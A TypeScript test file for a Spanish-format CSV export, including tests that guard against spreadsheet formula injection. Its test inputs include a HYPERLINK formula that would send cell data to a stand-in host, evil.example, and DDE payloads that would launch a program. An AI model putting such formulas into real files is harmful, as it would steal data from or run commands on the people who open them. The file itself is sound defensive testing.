/** The lists' CSV export, as a Spanish spreadsheet reads it. */
import { describe, expect, it } from 'vitest';
import { csvHead, csvRow } from '../../src/shared/csv';

const toCsv = (headers: string[], rows: Parameters<typeof csvRow>[0][]) => csvHead(headers) + rows.map(csvRow).join('');

describe('CSV export', () => {
  it('has the labels as headers, ";" between fields and a byte-order mark', () => {
    expect(
      toCsv(
        ['Nombre', 'Porcentaje'],
        [
          ['IVA 21 %', '21,00'],
          ['Exento', '0,00'],
        ],
      ),
    ).toBe('\uFEFFNombre;Porcentaje\r\nIVA 21 %;21,00\r\nExento;0,00\r\n');
  });
  it('quotes a field with a separator, a quote or a line break, and leaves empty values empty', () => {
    expect(toCsv(['a', 'b', 'c'], [['Calle Mayor; 3', 'El "bueno"', 'dos\nlíneas'], [null, undefined, 0]]))
      .toBe('\uFEFFa;b;c\r\n"Calle Mayor; 3";"El ""bueno""";"dos\nlíneas"\r\n;;0\r\n');
  });
});

describe('CSV export: formulas (OWASP CSV injection)', () => {
  it('writes a text cell starting with =, +, -, @, a tab or a carriage return as quoted text after a single quote', () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A2;"Ver")';
    expect(toCsv(['Trabajador'], [[attack]])).toBe('\uFEFFTrabajador\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A2;""Ver"")"\r\n');
    for (const text of ['+34 600', '-1+1', '-', '@SUM(A1)', '\t=1', '\r=1', '=1', '+', '-cmd|calc']) {
      expect(toCsv(['a'], [[text]]), JSON.stringify(text)).toBe(`\uFEFFa\r\n"'${text.replace(/"/g, '""')}"\r\n`);
    }
    // A header is a cell like any other.
    expect(toCsv(['=1'], [])).toBe('\uFEFF"\'=1"\r\n');
  });
  it('leaves numbers as numbers: JavaScript numbers and plain Spanish-formatted amounts, negative ones included', () => {
    expect(toCsv(['a', 'b', 'c', 'd', 'e'], [[-12.5, '-12,50', '-1.234,56', '-3', '-0.5']])).toBe(
      '\uFEFFa;b;c;d;e\r\n-12.5;-12,50;-1.234,56;-3;-0.5\r\n',
    );
  });
  it('leaves numbers as numbers in every form the lists write them: thousands, decimals, a JavaScript exponent', () => {
    const numbers = ['-12,50', '-1.234,5', '-12.345,67', '-123.456,00', '-1.234.567,89', '-1,5', '-1.5', '-12.5', '-0.25', '-3'];
    expect(toCsv(['a'], numbers.map((n) => [n]))).toBe(`\uFEFFa\r\n${numbers.join('\r\n')}\r\n`);
    // A JavaScript number is never a formula, whatever its String() looks like.
    expect(toCsv(['a', 'b'], [[-1e-7, -1e21]])).toBe('\uFEFFa;b\r\n-1e-7;-1e+21\r\n');
  });
  // A number is only a number to its end: a formula after it (or a number at the end of a formula) is text.
  const calc = "cmd|' /C calc'!A0";
  it.each([
    `-12,50+${calc}`,
    `-1.234,5+${calc}`,
    `-1.5+${calc}`,
    `-1,5\n=${calc}`, // after a line break the spreadsheet still runs what follows
    `-1.5\n=${calc}`,
    `-1.5\r=${calc}`,
    '-1,5 ',
    '-1.5e3',
    `=${calc}+1.5`,
    `=${calc}+12,50`,
    `=${calc}-1.5`, // a negative number at the end of a formula
    `=${calc}-12,50`,
    '-1.234.56', // a group of two is not a thousands group
    '-1234.567,8', // nor is a group after four digits
  ])('writes %j as quoted text after a single quote', (text) => {
    expect(toCsv(['a'], [[text]])).toBe(`\uFEFFa\r\n"'${text.replace(/"/g, '""')}"\r\n`);
  });
  it('leaves other text alone, a formula character further in included', () => {
    expect(toCsv(['a', 'b'], [['Ana = Luis', 'x@y.es']])).toBe('\uFEFFa;b\r\nAna = Luis;x@y.es\r\n');
  });
});
